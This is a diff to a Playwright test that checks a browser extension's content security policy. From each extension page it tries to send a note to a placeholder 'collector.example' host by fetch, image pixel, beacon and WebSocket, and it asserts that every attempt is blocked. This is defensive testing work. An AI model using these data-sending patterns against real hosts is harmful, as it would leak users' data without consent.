@@ -1,24 +1,28 @@
 // The content security policy of the extension pages (lib/csp.ts), proven in Chromium: a page of
-// ours cannot send anything to another host even if its code tried, and every page still renders
-// without a single violation.
+// ours cannot load anything from another host nor send to one but over TLS (where a sync server
+// may be: which one is contacted is the user's grant, and tests/e2e/sync.spec.ts proves that no
+// other is), and every page still renders without a single violation.
 import type { Page } from '@playwright/test';
 import { expect, test, type Extension } from './harness';
 import { SITES, panelFrame, serveApp } from './sites';
 
 const COLLECTOR = 'https://collector.example';
+/** The same collector without TLS: no connection of any kind may reach it. */
+const PLAIN = 'http://collector.example';
 const PAGES = ['options.html', 'popup.html', 'panel.html', 'sidepanel.html'];
 
 /** Answer every request to the collector: without the policy, each attempt below would succeed. */
 async function serveCollector(ext: Extension) {
-  await ext.context.route(`${COLLECTOR}/**`, (route) =>
-    route.fulfill({
-      status: 200,
-      headers: { 'access-control-allow-origin': '*' },
-      contentType: 'image/gif',
-      // A 1×1 GIF, so that an image request would load too.
-      body: Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64'),
-    }),
-  );
+  for (const origin of [COLLECTOR, PLAIN])
+    await ext.context.route(`${origin}/**`, (route) =>
+      route.fulfill({
+        status: 200,
+        headers: { 'access-control-allow-origin': '*' },
+        contentType: 'image/gif',
+        // A 1×1 GIF, so that an image request would load too.
+        body: Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64'),
+      }),
+    );
 }
 
 /** Record every violation of every page and frame from its first moment. */
@@ -35,47 +39,52 @@ async function recordViolations(ext: Extension) {
 const violationsOf = (page: Page) =>
   page.evaluate(() => (globalThis as unknown as { __violations?: string[] }).__violations ?? []);
 
-test('an extension page cannot send data to another host', async ({ ext }) => {
+test('an extension page cannot load from another host, nor send to one without TLS', async ({
+  ext,
+}) => {
   await serveCollector(ext);
   await recordViolations(ext);
   const requested: string[] = [];
   ext.context.on('requestfinished', (r) => {
-    if (r.url().startsWith(COLLECTOR)) requested.push(r.url());
+    if (r.url().startsWith(COLLECTOR) || r.url().startsWith(PLAIN)) requested.push(r.url());
   });
   for (const path of PAGES) {
     const page = await ext.openPage(path);
-    const attempt = await page.evaluate(async (collector) => {
-      const outcome = async (p: Promise<unknown>) =>
-        p.then(
-          () => 'sent',
-          () => 'refused',
+    const attempt = await page.evaluate(
+      async ({ collector, plain }) => {
+        const outcome = async (p: Promise<unknown>) =>
+          p.then(
+            () => 'sent',
+            () => 'refused',
+          );
+        const fetched = await outcome(
+          fetch(`${plain}/fetch?note=Nachfolge`, { method: 'POST', body: 'Nachfolge' }),
         );
-      const fetched = await outcome(
-        fetch(`${collector}/fetch?note=Nachfolge`, { method: 'POST', body: 'Nachfolge' }),
-      );
-      const image = await outcome(
-        new Promise((ok, fail) => {
-          const img = new Image();
-          img.onload = ok;
-          img.onerror = fail;
-          img.src = `${collector}/pixel.gif?note=Nachfolge`;
-        }),
-      );
-      // A beacon is queued first and refused afterwards: its violation is checked below.
-      navigator.sendBeacon(`${collector}/beacon`, 'Nachfolge');
-      const socket = await outcome(
-        new Promise((ok, fail) => {
-          try {
-            const ws = new WebSocket(`${collector.replace('https', 'wss')}/socket`);
-            ws.onopen = ok;
-            ws.onerror = fail;
-          } catch (e) {
-            fail(e);
-          }
-        }),
-      );
-      return { fetched, image, socket };
-    }, COLLECTOR);
+        const image = await outcome(
+          new Promise((ok, fail) => {
+            const img = new Image();
+            img.onload = ok;
+            img.onerror = fail;
+            img.src = `${collector}/pixel.gif?note=Nachfolge`;
+          }),
+        );
+        // A beacon is queued first and refused afterwards: its violation is checked below.
+        navigator.sendBeacon(`${plain}/beacon`, 'Nachfolge');
+        const socket = await outcome(
+          new Promise((ok, fail) => {
+            try {
+              const ws = new WebSocket(`${plain.replace('http', 'ws')}/socket`);
+              ws.onopen = ok;
+              ws.onerror = fail;
+            } catch (e) {
+              fail(e);
+            }
+          }),
+        );
+        return { fetched, image, socket };
+      },
+      { collector: COLLECTOR, plain: PLAIN },
+    );
     expect(attempt, path).toEqual({
       fetched: 'refused',
       image: 'refused',
@@ -86,9 +95,9 @@ test('an extension page cannot send data to another host', async ({ ext }) => {
       .poll(() => violationsOf(page), { message: path })
       .toEqual(
         expect.arrayContaining([
-          expect.stringMatching(new RegExp(`^connect-src ${COLLECTOR}/fetch`)),
+          expect.stringMatching(new RegExp(`^connect-src ${PLAIN}/fetch`)),
           expect.stringMatching(new RegExp(`^img-src ${COLLECTOR}/pixel\\.gif`)),
-          expect.stringMatching(new RegExp(`^connect-src ${COLLECTOR}/beacon`)),
+          expect.stringMatching(new RegExp(`^connect-src ${PLAIN}/beacon`)),
         ]),
       );
     await page.close();
